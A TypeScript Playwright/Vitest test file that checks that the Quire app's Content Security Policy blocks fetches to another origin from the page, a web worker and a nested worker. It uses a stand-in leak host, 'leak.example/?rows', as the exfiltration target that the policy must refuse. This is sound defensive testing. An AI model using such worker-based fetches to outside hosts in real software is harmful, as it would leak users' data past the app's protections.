import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { openPage } from './harness';

// Reserved for documentation: nobody is asked even if the policy should fail.
const elsewhere = 'https://leak.example/?rows';

describe.each([
  { headers: true, base: '/' },
  { headers: false, base: '/some/where/' },
])('served at $base, headers: $headers', ({ headers, base }) => {
  test('Quire opens without an error or a request to anyone else', async () => {
    const { page, url } = await openPage({ headers, base });
    expect(page.url()).toBe(url);
    expect(new URL(url).pathname).toBe(base);
  });

  test.each([
    ['the page', askFromPage],
    ['a worker', askFromWorker],
    ['a worker of a worker', askFromNestedWorker],
  ])('%s cannot reach another origin', async (_, ask) => {
    const { page, url, expectProblem } = await openPage({ headers, base });
    expectProblem(/^console: .*(violates|Refused to connect).*Content Security Policy/s);
    expectProblem(/^console: Fetch API cannot load https:\/\/leak\.example/);
    expect(await ask(page, url)).toBe('answered');
    expect(await ask(page, elsewhere)).toBe('refused');
  });
});

const script = `onmessage = ({ data }) => fetch(data).then(() => 'answered', () => 'refused').then(postMessage)`;

function askFromPage(page: Page, address: string): Promise<string> {
  return page.evaluate(
    (address) =>
      fetch(address).then(
        () => 'answered',
        () => 'refused',
      ),
    address,
  );
}

function askFromWorker(page: Page, address: string): Promise<string> {
  return askWorker(page, script, address);
}

function askFromNestedWorker(page: Page, address: string): Promise<string> {
  const outer = `
    const inner = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}])));
    inner.onmessage = ({ data }) => postMessage(data);
    onmessage = ({ data }) => inner.postMessage(data);`;
  return askWorker(page, outer, address);
}

function askWorker(page: Page, source: string, address: string): Promise<string> {
  return page.evaluate(
    ({ source, address }) =>
      new Promise<string>((done) => {
        const worker = new Worker(URL.createObjectURL(new Blob([source])));
        worker.onmessage = ({ data }) => done(data);
        worker.postMessage(address);
      }),
    { source, address },
  );
}
